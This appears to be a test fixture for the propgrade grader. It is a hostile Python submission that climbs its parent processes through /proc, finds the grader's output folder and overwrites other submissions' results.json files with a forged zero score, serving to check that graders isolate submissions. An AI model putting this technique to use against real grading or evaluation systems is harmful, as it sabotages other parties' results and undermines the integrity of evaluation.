# EXPECTED (the contract of the grader): a submission can change nothing but its own verdicts.
# The worker runs as the same user as the grader and can read /proc/PPID/cmdline and /proc/PPID/cwd
# of its ancestors: it finds `propgrade grade ... --out DIR` and rewrites every results.json already
# written there (the submissions graded before it) with a forged zero score. It defines nothing
# itself (every property "missing"). After `propgrade grade victim.py tamper_other_results.py --out
# DIR`, DIR/victim/results.json must still hold the victim's real result.
# (Closed as root on Linux: as the user nobody the worker can neither read a root process's /proc
# cwd nor write into the output folder. Without root the victim's results.json is replaced.)
import json
import os

FORGED = "PROPGRADE-TAMPERED-BY-ANOTHER-SUBMISSION"


def _out_dirs():
    pid = os.getppid()
    while pid > 1:
        try:
            args = [a.decode(errors="replace") for a in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")]
            cwd = os.readlink(f"/proc/{pid}/cwd")
            for i, arg in enumerate(args):
                if arg == "--out" and i + 1 < len(args):
                    yield os.path.join(cwd, args[i + 1])
                elif arg.startswith("--out="):
                    yield os.path.join(cwd, arg[len("--out="):])
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return


for _out in _out_dirs():
    for _entry in os.listdir(_out):
        _path = os.path.join(_out, _entry, "results.json")
        if os.path.isfile(_path):
            with open(_path, "w") as _f:
                json.dump({"score": 0.0, "output": FORGED, "tests": []}, _f)
